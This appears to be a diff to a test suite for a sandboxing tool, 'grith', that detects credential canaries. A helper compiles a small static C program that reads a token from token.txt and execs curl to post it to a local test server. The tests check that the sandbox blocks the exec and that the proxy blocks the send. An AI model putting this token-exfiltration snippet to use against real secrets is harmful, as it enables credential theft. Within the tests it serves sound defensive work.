@@ -104,27 +104,46 @@ except Exception as e: print("refused", getattr(e, "code", e))`;
     expect(received.join('\n')).not.toContain(token.value.slice(4));
   }, 90_000);
 
-  it('a static binary execs unchecked (known gap), and the proxy still stops what it sends', async () => {
-    const src = join(root, 'static-exec.c');
-    writeFileSync(
-      src,
-      `#include <unistd.h>
-#include <stdio.h>
-int main(int c, char **v) { char t[256] = {0}; FILE *f = fopen("token.txt", "r"); if (!f || !fgets(t, sizeof t, f)) return 2;
-  char *args[] = {"curl", "-s", "-o", "/dev/null", "-w", "%{http_code}\\n", "-d", t, v[1], 0};
-  execv("/usr/bin/curl", args); perror("execv"); return 1; }`,
-    );
-    const bin = join(root, 'static-exec');
-    execFileSync('cc', ['-static', '-O1', '-o', bin, src]);
+  it('a static binary exec carrying a token is refused in the sandbox (grith-launch sees the raw execve)', async () => {
+    const bin = staticExec();
     received.length = 0;
     const before = (await new EventLog(home).readAll()).length;
     const r = await grithRun(['shell', '-c', `${bin} http://127.0.0.1:${port}/static`], { home, cwd: root });
+    expect(r.stdout).toBe('');
+    expect(r.stderr).toMatch(/grith: blocked exec of curl: argument carries credential canary "net-token"/);
+    expect(received).toEqual([]);
+    const after = (await new EventLog(home).readAll()).slice(before).filter((e) => e.kind === 'canary.fired');
+    expect(after.map((e) => [e.guard, e.detail?.exec])).toEqual([['shell', 'seccomp-execve']]);
+  });
+
+  it('without the sandbox a static binary execs unchecked (known gap), and the proxy still stops what it sends', async () => {
+    const bin = staticExec();
+    received.length = 0;
+    const before = (await new EventLog(home).readAll()).length;
+    const r = await grithRun(['shell', '--no-sandbox', '-c', `${bin} http://127.0.0.1:${port}/static`], { home, cwd: root });
     expect(r.stdout).toBe('403\n');
     expect(received.join('\n')).not.toContain(token.value.slice(4));
     const after = (await new EventLog(home).readAll()).slice(before).filter((e) => e.kind === 'canary.fired');
     expect(after.map((e) => e.guard)).toEqual(['proxy']);
   });
 });
+
+/** A statically linked program that execs curl with the token (read from token.txt) in its argv. */
+function staticExec(): string {
+  const bin = join(root, 'static-exec');
+  if (existsSync(bin)) return bin;
+  const src = join(root, 'static-exec.c');
+  writeFileSync(
+    src,
+    `#include <unistd.h>
+#include <stdio.h>
+int main(int c, char **v) { char t[256] = {0}; FILE *f = fopen("token.txt", "r"); if (!f || !fgets(t, sizeof t, f)) return 2;
+  char *args[] = {"curl", "-s", "-o", "/dev/null", "-w", "%{http_code}\\n", "-d", t, v[1], 0};
+  execv("/usr/bin/curl", args); perror("execv"); return 1; }`,
+  );
+  execFileSync('cc', ['-static', '-O1', '-o', bin, src]);
+  return bin;
+}
 
 describe('grith shell --mount', () => {
   it('mounts the workspace, starts in it, serves decoys, and unmounts at the end', async () => {
